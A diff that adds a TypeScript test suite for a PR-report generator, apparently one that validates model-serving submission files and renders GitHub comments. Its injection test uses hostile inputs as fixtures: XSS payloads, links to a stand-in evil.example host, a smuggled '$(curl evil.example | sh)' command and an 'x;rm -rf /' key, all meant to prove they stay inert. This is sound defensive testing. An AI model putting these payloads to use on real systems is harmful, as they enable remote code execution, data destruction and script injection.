@@ -1,0 +1,139 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { REPORT_MARKER, renderReport } from '../../../runners/community/pr-report.ts';
+import { buildReportInput } from '../../../runners/community/report-input.ts';
+import { runCli } from '../../helpers/cli.ts';
+import { linkTriggers, proseText, renderGfm, tagNames } from './gfm.ts';
+import { paperSubmission, tempRepo } from './fixtures.ts';
+
+const ALLOWED_TAGS = ['h3', 'h4', 'p', 'strong', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'sub'];
+
+/** The report rendered as GitHub would: only our own structure, nothing that links or mentions. */
+function assertSafe(md: string): string {
+  const html = renderGfm(md);
+  const extra = tagNames(html).filter((t) => !ALLOWED_TAGS.includes(t));
+  assert.deepEqual(extra, [], `unexpected HTML elements in the report:\n${html}`);
+  assert.deepEqual(linkTriggers(proseText(html)), [], `a link or mention trigger reached the report prose:\n${html}`);
+  for (const rowHtml of html.match(/<tr>[\s\S]*?<\/tr>/g) ?? []) assert.equal((rowHtml.match(/<t[dh]>/g) ?? []).length, 2, `a table row lost its shape: ${rowHtml}`);
+  return html;
+}
+
+async function report(files: Record<string, Record<string, unknown> | string>, changed: string[]) {
+  const root = tempRepo(files);
+  const input = await buildReportInput(changed, root, { plan: false });
+  return { input, md: renderReport(input) };
+}
+
+test('valid single submission (the real file, through the CLI): model, revision, serving hints and serve command', () => {
+  const r = runCli(['pr-report', '--changed', 'submissions/zai-org/glm-4.5-air.yaml', '--no-plan']);
+  assert.equal(r.code, 0, r.stderr);
+  assert.ok(r.stdout.startsWith(REPORT_MARKER));
+  assert.match(r.stdout, /✅ \*\*1 changed file valid\.\*\*/);
+  assert.match(r.stdout, /\| Model \| ` zai-org\/GLM-4\.5-Air ` \|/);
+  assert.match(r.stdout, /\| Revision \| ` main ` ⚠️ unpinned/);
+  assert.match(r.stdout, /tensor parallel 4, max model length 32,768/);
+  assert.match(r.stdout, /```sh\nvllm serve zai-org\/GLM-4\.5-Air --revision main --tensor-parallel-size 4 --max-model-len 32768 --served-model-name glm-4\.5-air /);
+  assertSafe(r.stdout);
+});
+
+test('invalid submission: every error as `file: field: message`, exit 1', async () => {
+  const bad = paperSubmission();
+  delete bad.license;
+  bad.serving.tensor_parallel_size = 'eight';
+  bad.params.active_b = -3;
+  bad.surprise = true;
+  const { input, md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': bad }, ['submissions/qwen/qwen3.5-9b.yaml']);
+  const fields = input.errors.map((e) => e.field).sort();
+  assert.deepEqual(fields, ['license', 'params.active_b', 'serving.tensor_parallel_size', 'surprise']);
+  for (const f of fields) assert.match(md, new RegExp(`^- \` submissions/qwen/qwen3\\.5-9b\\.yaml \`: \` ${f.replace(/\./g, '\\.')} \`: \\S`, 'm'));
+  assert.match(md, /❌ \*\*4 problems\*\* in 1 file/);
+  assert.doesNotMatch(md, /What will run/);
+  assertSafe(md);
+
+  const root = tempRepo({ 'submissions/qwen/qwen3.5-9b.yaml': bad });
+  const r = runCli(['pr-report', '--changed', 'submissions/qwen/qwen3.5-9b.yaml', '--no-plan'], { cwd: root });
+  assert.equal(r.code, 1);
+  assert.match(r.stdout, /surprise/);
+});
+
+test('multi-file change: errors for the broken file, summaries for the valid ones, cross-file duplicates caught, other files ignored', async () => {
+  const a = paperSubmission('submissions/qwen/qwen3.5-0.8b.yaml');
+  const b = paperSubmission('submissions/openai/gpt-oss-20b.yaml');
+  const dup = { ...paperSubmission('submissions/qwen/qwen3.5-2b.yaml'), id: 'qwen3.5-2b-again' }; // same repo + revision as c
+  const c = paperSubmission('submissions/qwen/qwen3.5-2b.yaml');
+  const broken = 'id: [unclosed\n';
+  const { input, md } = await report(
+    {
+      'submissions/qwen/qwen3.5-0.8b.yaml': a,
+      'submissions/openai/gpt-oss-20b.yaml': b,
+      'submissions/qwen/qwen3.5-2b.yaml': c,
+      'submissions/qwen/qwen3.5-2b-again.yaml': dup,
+      'submissions/acme/broken.yaml': broken,
+      'README.md': '# hi\n',
+    },
+    ['submissions/qwen/qwen3.5-0.8b.yaml', 'submissions/openai/gpt-oss-20b.yaml', 'submissions/qwen/qwen3.5-2b-again.yaml', 'submissions/acme/broken.yaml', 'submissions/acme/deleted.yaml', 'README.md'],
+  );
+  assert.deepEqual(input.checked.length, 4);
+  assert.deepEqual(input.missing, ['submissions/acme/deleted.yaml']);
+  assert.deepEqual(input.ignored, ['README.md']);
+  assert.ok(input.errors.some((e) => e.file === 'submissions/acme/broken.yaml' && e.field === '(file)' && /invalid YAML/.test(e.message)));
+  assert.ok(input.errors.some((e) => e.file === 'submissions/qwen/qwen3.5-2b-again.yaml' && e.field === 'hf' && /already submitted/.test(e.message)));
+  assert.deepEqual(input.submissions.map((s) => s.value.id).sort(), ['gpt-oss-20b', 'qwen3.5-0.8b']);
+  assert.match(md, /\*\*Valid submissions in this change\*\*/);
+  assert.match(md, /#### Qwen3\\\.5 0\\\.8B/);
+  assert.match(md, /#### gpt\\-oss 20B/);
+  assert.match(md, /Removed or renamed: ` submissions\/acme\/deleted\.yaml `/);
+  assert.match(md, /Not checked \(not a userturn data file\): 1 file/);
+  assertSafe(md);
+});
+
+test('no data files changed: says so', async () => {
+  const { md } = await report({ 'README.md': 'x' }, ['README.md', 'src/pages/index.astro']);
+  assert.match(md, /nothing to validate/);
+  assertSafe(md);
+});
+
+test('injection: Markdown, HTML, links, images and mentions in submission fields stay inert text', async () => {
+  const evil = paperSubmission();
+  evil.display_name = '[win](https://evil.example) ![x](https://e.example/p.png) @octocat <img src=x>';
+  evil.notes = '<script>alert(1)</script> ``` | broken | table | www.evil.example #1';
+  evil.submitter = { github: 'octocat', name: '@admin <b>bold</b>' };
+  const { input, md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': evil }, ['submissions/qwen/qwen3.5-9b.yaml']);
+  assert.equal(input.errors.length, 0);
+  const html = assertSafe(md);
+  assert.match(html, /<h4>.*\[win\].*octocat/); // shown, as text
+
+  // Malicious keys and values that fail validation end up in error lines: still inert.
+  const worse: Record<string, any> = paperSubmission();
+  worse['<img src=x onerror=alert(1)>'] = 'x';
+  worse['[a](https://evil.example)`|`'] = 1;
+  worse['@octocat'] = 1;
+  worse.hf.revision = '`$(curl evil.example | sh)`';
+  worse.serving.engine_args = { 'trust-remote-code': true, 'x;rm -rf /': 'a b' };
+  const r2 = await report({ 'submissions/qwen/qwen3.5-9b.yaml': worse }, ['submissions/qwen/qwen3.5-9b.yaml']);
+  assert.ok(r2.input.errors.length >= 5, JSON.stringify(r2.input.errors));
+  assertSafe(r2.md);
+
+  // A hostile file name (org folder) lands in code spans only.
+  const r3 = await report({ 'submissions/@octocat/[x](https:evil).yaml': paperSubmission() }, ['submissions/@octocat/[x](https:evil).yaml']);
+  assert.ok(r3.input.errors.length >= 1);
+  assertSafe(r3.md);
+});
+
+test('a submission whose engine_args are not on the allowlist is reported as an error (serve-cmd refuses it)', async () => {
+  const sub = paperSubmission();
+  sub.serving.engine_args = { 'trust-remote-code': true };
+  const { input, md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': sub }, ['submissions/qwen/qwen3.5-9b.yaml']);
+  assert.equal(input.submissions.length, 0);
+  assert.equal(input.errors.length, 1);
+  assert.equal(input.errors[0]!.field, 'serving.engine_args.trust-remote-code');
+  assert.match(md, /not on the vllm allowlist/);
+});
+
+test('the report stays under GitHub’s comment limit with hundreds of errors', async () => {
+  const bad: Record<string, any> = paperSubmission();
+  for (let i = 0; i < 400; i++) bad[`unknown_key_${i}_${'x'.repeat(60)}`] = i;
+  const { md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': bad }, ['submissions/qwen/qwen3.5-9b.yaml']);
+  assert.ok(md.length < 65_536);
+  assert.match(md, /and 200 more/);
+});
